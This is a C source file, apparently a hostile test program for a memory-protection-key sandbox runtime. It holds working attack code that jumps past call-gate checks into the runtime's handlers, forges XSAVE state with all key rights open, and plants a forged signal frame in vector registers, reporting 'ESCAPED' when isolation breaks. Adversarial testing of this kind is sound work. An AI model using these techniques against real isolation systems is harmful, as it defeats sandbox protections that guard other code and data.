/* Jumps to where no guest should go: behind the checks of gates, into the runtime, its handlers, its library. */
#include "villain.h"

/* Registers for a jump, and what they were afterwards, if the jump came back. */
struct registers {
    uint64_t rax, rbx, rcx, rdx, rsi, rdi, rbp, rsp, r8, r9, r10, r11, r12, r13, r14, r15, rflags;
};

#define BY_NAME __attribute__((used)) static /* the assembly below names it */
BY_NAME struct registers before, after;
BY_NAME uint64_t kept_rsp, kept_rbp, target;
/* A stack of one's own, all of whose words lead back. */
static uint64_t own_stack[8192] __attribute__((aligned(64)));
/* Where forged structures lie: every word of it is what the attack wants it to be. */
static uint64_t forged[4096] __attribute__((aligned(4096)));
BY_NAME uint32_t rights_after;

void landing(void);
int go(void);
/* Saves what C relies on, loads everything, jumps; `landing` undoes it. */
__asm__(".text\n"
        ".globl go\n"
        "go:\n"
        "  push %rbx\n push %rbp\n push %r12\n push %r13\n push %r14\n push %r15\n"
        "  mov %rsp, kept_rsp(%rip)\n"
        "  mov %rbp, kept_rbp(%rip)\n"
        "  lea before(%rip), %rax\n"
        "  mov 8(%rax), %rbx\n"
        "  mov 16(%rax), %rcx\n"
        "  mov 24(%rax), %rdx\n"
        "  mov 32(%rax), %rsi\n"
        "  mov 40(%rax), %rdi\n"
        "  mov 48(%rax), %rbp\n"
        "  mov 64(%rax), %r8\n"
        "  mov 72(%rax), %r9\n"
        "  mov 80(%rax), %r10\n"
        "  mov 88(%rax), %r11\n"
        "  mov 96(%rax), %r12\n"
        "  mov 104(%rax), %r13\n"
        "  mov 112(%rax), %r14\n"
        "  mov 120(%rax), %r15\n"
        "  mov 56(%rax), %rsp\n"
        "  mov (%rax), %rax\n"
        "  jmp *target(%rip)\n"
        ".globl landing\n"
        "landing:\n"
        "  mov %rax, after(%rip)\n"
        "  mov %rcx, 16+after(%rip)\n"
        "  mov %rdx, 24+after(%rip)\n"
        "  mov kept_rsp(%rip), %rsp\n"
        "  mov kept_rbp(%rip), %rbp\n"
        "  cld\n"
        "  xor %ecx, %ecx\n"
        "  rdpkru\n"
        "  mov %eax, rights_after(%rip)\n"
        "  pop %r15\n pop %r14\n pop %r13\n pop %r12\n pop %rbp\n pop %rbx\n"
        "  xor %eax, %eax\n"
        "  ret\n");

static void prepare(const order *o) {
    for (size_t i = 0; i < sizeof own_stack / 8; i++) own_stack[i] = (uint64_t)landing;
    memset(&before, 0, sizeof before);
    before.rsp = (uint64_t)(own_stack + 4096);
    target = gates_at() + o->words[0];
}

/* Jumps, and says what the world looks like if that comes back. */
static void jump_and_tell(void) {
    uint32_t mine = rights();
    go();
    say("%s rax=%lx", rights_after == mine ? "back" : "ESCAPED", after.rax);
}

/* jump OFFSET RAX RCX RDX RSP POINTER FILL: every other register that the runtime's code might use as a pointer is POINTER.
 * 1 is the forged structures, of which every word is FILL; but FILL 1 makes them a state to restore that opens all keys. An
 * RSP of 0 is the own stack. */
static void jump(const order *o) {
    prepare(o);
    uint64_t fill = o->words[6];
    for (size_t i = 0; i < sizeof forged / 8; i++) forged[i] = fill == 1 ? 0 : fill;
    if (fill == 1) {
        forged[0] = 0x37f;
        forged[3] = 0x1f80;
        forged[64] = 0x200; /* key rights are there, and all of them zero */
    }
    uint64_t pointer = o->words[5] == 1 ? (uint64_t)forged : o->words[5];
    before.rbx = before.rsi = before.rdi = before.rbp = before.r8 = before.r9 = before.r10 = before.r11 = pointer;
    before.r12 = before.r13 = before.r14 = before.r15 = pointer;
    before.rax = o->words[1];
    before.rcx = o->words[2] == 1 ? (uint64_t)forged : o->words[2];
    before.rdx = o->words[3];
    if (o->words[4] == 1) before.rsp = (uint64_t)(forged + 2048);
    else if (o->words[4] != 0) before.rsp = o->words[4];
    jump_and_tell();
}

/* A frame as the kernel would write it, in an area as a vector register's bytes. */
static void forge_frame(uint64_t *frame, uint64_t signal, uint64_t rip, uint64_t xsave) {
    memset(frame, 0, 512);
    uint64_t *registers = frame + 6;
    registers[15] = (uint64_t)(own_stack + 4096); /* rsp */
    registers[16] = rip;
    registers[17] = 0x202;
    registers[23] = xsave;
    frame[39] = signal;       /* siginfo: number */
    frame[40] = 1;            /* code */
}

static uint64_t vectors[256] __attribute__((aligned(64))); /* zmm0 .. zmm31 */
static uint64_t area[1024] __attribute__((aligned(64)));   /* a forged XSAVE area: every component in its initial state */

static void escaped(void);
static uint64_t loot;

/* frame TRAP DELTA SIGNAL LOOT: leaves a forged frame in the vector registers of a real one, then jumps into the handler TRAP with the
 * stack pointer at SIGNAL STACK's DELTA, where that frame's registers lie. */
static void frame(const order *o) {
    prepare(o);
    memset(area, 0, sizeof area);
    area[3] = 0x1f80ul << 0; /* mxcsr at byte 24 */
    area[0] = 0x37f;
    loot = gates_at() + o->words[3];
    for (int at = 0; at < 4; at++) forge_frame(vectors + at * 64, o->words[2], (uint64_t)escaped, (uint64_t)area);
    before.rsp = gates_at() + o->words[1];
    before.rdi = o->words[2];
    /* zmm16 .. zmm31 lie one behind the other in the frame. */
    __asm__ volatile("vmovdqu64 (%0), %%zmm16\n vmovdqu64 64(%0), %%zmm17\n vmovdqu64 128(%0), %%zmm18\n"
                     "vmovdqu64 192(%0), %%zmm19\n vmovdqu64 256(%0), %%zmm20\n vmovdqu64 320(%0), %%zmm21\n"
                     "vmovdqu64 384(%0), %%zmm22\n vmovdqu64 448(%0), %%zmm23\n"
                     "mov $39, %%eax\n syscall\n" ::"r"(vectors)
                     : "rax", "rcx", "r11", "memory"); /* this program is not compiled to use those registers */
    jump_and_tell();
}

/* Runs with whatever rights the forged frame gave. */
__attribute__((noreturn)) static void escaped(void) {
    uint32_t have = rights();
    uint64_t what = *(volatile uint64_t *)loot;
    after.rax = what;
    (void)have;
    landing();
    __builtin_unreachable();
}

/* gatenumber NUMBER: the gates' common entry, with a number of one's own. */
static void gate_number(const order *o) {
    int64_t result;
    register uint64_t r9 __asm__("r9") = o->words[0];
    /* Each entry is a move of its number, six bytes long, and a jump. */
    uint64_t entry = baton_gate_page->gates[BATON_GATE_CLOCK] + 6;
    __asm__ volatile("call *%[entry]\n" : "=a"(result), "+r"(r9)
                     : [entry] "r"(entry), "D"(0ul), "S"(0ul), "d"(0ul)
                     : "rcx", "r8", "r10", "r11", "memory", "cc");
    say("%ld", result);
}

static void tell_rights(const order *o) {
    (void)o;
    say("%x", rights());
}

static const attack attacks[] = {{"rights", tell_rights}, {"gatenumber", gate_number}, {"jump", jump}, {"frame", frame}, {NULL, NULL}};

int main(void) { return serve(attacks); }
